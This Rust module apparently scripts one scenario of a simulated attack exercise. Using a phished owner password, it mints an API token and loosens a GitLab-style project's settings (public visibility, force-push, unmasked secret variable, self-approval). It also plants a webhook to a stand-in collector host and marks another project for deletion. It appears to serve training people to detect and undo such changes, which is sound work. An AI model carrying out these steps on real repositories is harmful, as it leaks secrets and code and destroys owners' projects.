//! `misconfigured-settings`: an owner's account opens a project up.
//!
//! With a phished password the attacker signs in as the owner of two projects
//! and flips settings: visibility, rules for merge requests, the protection of
//! the main branch, a variable's mask, a webhook to a stranger. The second
//! project he marks for deletion. Nothing is planted that needs a key: each
//! change must be put back to what it was (MS1–MS5).

use reqwest::Method;
use serde_json::json;

use super::AttackError;
use super::attacker::Attacker;
use super::hands::{change, make_token, plant_webhook, project_id, sign_in};
use super::loot::{CredentialKind, Foothold, Loot, Sign};
use crate::world::OWNER_PASSWORD;

/// The owner's username.
pub const USERNAME: &str = "noor.berg";
/// The project whose settings are flipped.
pub const PROJECT: &str = "commons/tariff-tables";
/// The project that is marked for deletion.
pub const DELETED: &str = "commons/tariff-archive";
/// Where the planted webhook sends to.
const COLLECTOR: &str = "https://rates-digest.example/hook";

/// Runs the attack.
pub(crate) async fn run(attacker: Attacker) -> Result<Loot, AttackError> {
    let session = sign_in(&attacker, USERNAME, OWNER_PASSWORD).await?;
    let token = make_token(&attacker, &session, "settings sync", &["api"]).await?;
    let mut loot = Loot::new(attacker);
    loot.hold("the browser session", session);
    loot.hold("a personal token made with it", token.clone());
    let password = OWNER_PASSWORD.to_owned();
    let kind = CredentialKind::Password { username: USERNAME.to_owned(), password };
    loot.hold("the owner's password", kind);
    let project = project_id(&loot.attacker, Some(&token), PROJECT).await?;
    open_up(&mut loot, &token, &project).await?;
    loosen_approvals(&mut loot, &token, &project).await?;
    plant_webhook(&mut loot, &token, &project, COLLECTOR).await?;
    delete(&mut loot, &token).await?;
    Ok(loot)
}

/// Visibility, pipelines, merges, the main branch, a variable's mask.
async fn open_up(
    loot: &mut Loot,
    token: &CredentialKind,
    project: &str,
) -> Result<(), AttackError> {
    let path = format!("/projects/{project}");
    let branch = format!("{path}/protected_branches/main");
    let variable = format!("{path}/variables/RATES_FEED_PASSWORD");
    let title = "make a private project public";
    change(loot, token, title, (Method::PUT, &path), ("visibility", json!("public"))).await?;
    let title = "let anybody read job logs";
    change(loot, token, title, (Method::PUT, &path), ("public_jobs", json!(true))).await?;
    let title = "let merges pass without a pipeline";
    let field = "only_allow_merge_if_pipeline_succeeds";
    change(loot, token, title, (Method::PUT, &path), (field, json!(false))).await?;
    let title = "let history of the main branch be overwritten";
    let to = ("allow_force_push", json!(true));
    change(loot, token, title, (Method::PATCH, &branch), to).await?;
    let title = "take a variable's mask away";
    change(loot, token, title, (Method::PUT, &variable), ("masked", json!(false))).await
}

/// The rules of who approves whose merge request.
///
/// Source: GitLab docs, `api/merge_request_approvals`, POST `/projects/:id/approvals`.
async fn loosen_approvals(
    loot: &mut Loot,
    token: &CredentialKind,
    project: &str,
) -> Result<(), AttackError> {
    let path = format!("/projects/{project}/approvals");
    for (title, field, bad) in [
        ("let authors approve their own merge requests", "merge_requests_author_approval", true),
        ("keep approvals when new commits come", "reset_approvals_on_push", false),
    ] {
        change(loot, token, title, (Method::POST, &path), (field, json!(bad))).await?;
    }
    Ok(())
}

/// Marks the other project for deletion; it goes for good when the delay is over.
async fn delete(loot: &mut Loot, token: &CredentialKind) -> Result<(), AttackError> {
    let attacker = loot.attacker.clone();
    let project = project_id(&attacker, Some(token), DELETED).await?;
    let path = format!("/projects/{project}");
    let title = "mark a project for deletion";
    attacker.write(title, (Method::DELETE, &path), Some(token), json!({})).await?.accepted()?;
    loot.footholds.push(Foothold {
        name: format!("{DELETED} is marked for deletion"),
        path,
        sign: Sign::Set { field: "marked_for_deletion_on" },
    });
    Ok(())
}
